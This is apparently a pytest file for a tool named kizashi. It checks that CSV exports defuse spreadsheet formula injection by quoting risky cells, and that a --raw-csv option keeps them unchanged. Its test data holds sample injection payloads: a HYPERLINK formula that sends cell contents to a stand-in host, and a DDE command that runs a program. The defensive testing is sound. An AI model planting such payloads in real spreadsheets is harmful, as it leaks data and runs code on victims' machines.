"""CSV that leaves kizashi is safe to open: a cell a spreadsheet would run as a formula is written as text, in every
command (they share one writer), unless `--raw-csv` asks for the cells as they are."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from kizashi.store.workspace import Workspace

ATTACKS = {
    "n-link": '=HYPERLINK("http://x.example/?leak="&A1,"y")',
    "n-cmd": "+cmd|' /C calc'!A0",
    "n-sum": "@SUM(1+1)",
    "n-plain": "Flood sensors for small rivers",
}


def _needs(path: Path) -> Path:
    with path.open("w", encoding="utf-8") as handle:
        for need_id, title in ATTACKS.items():
            record = {"id": need_id, "title": title, "description": "-1 reasons", "label": "PUBLIC"}
            handle.write(json.dumps(record, ensure_ascii=False) + "\n")
    return path


def _titles(text: str) -> dict[str, tuple[str, str]]:
    return {
        row["id"]: (row["title"], row.get("description", "")) for row in csv.DictReader(io.StringIO(text, newline=""))
    }


def test_listing_as_csv_neutralises_formulas_and_raw_csv_keeps_them(workspace: Workspace, cli, tmp_path: Path) -> None:
    assert cli("ingest", "needs", _needs(tmp_path / "needs.jsonl")).code == 0
    shown = _titles(cli("list", "needs", "--all-columns", "--format", "csv").out)
    for need_id, title in ATTACKS.items():
        expected = title if need_id == "n-plain" else "'" + title
        assert shown[need_id] == (expected, "'-1 reasons"), need_id
    out = tmp_path / "needs.csv"
    assert cli("--raw-csv", "list", "needs", "--format", "csv", "--out", out).code == 0
    raw = _titles(out.read_text(encoding="utf-8"))
    assert {need_id: title for need_id, (title, _) in raw.items()} == ATTACKS
    # The option belongs to one run: the next one is neutralised again.
    assert _titles(cli("list", "needs", "--format", "csv").out)["n-sum"][0] == "'@SUM(1+1)"
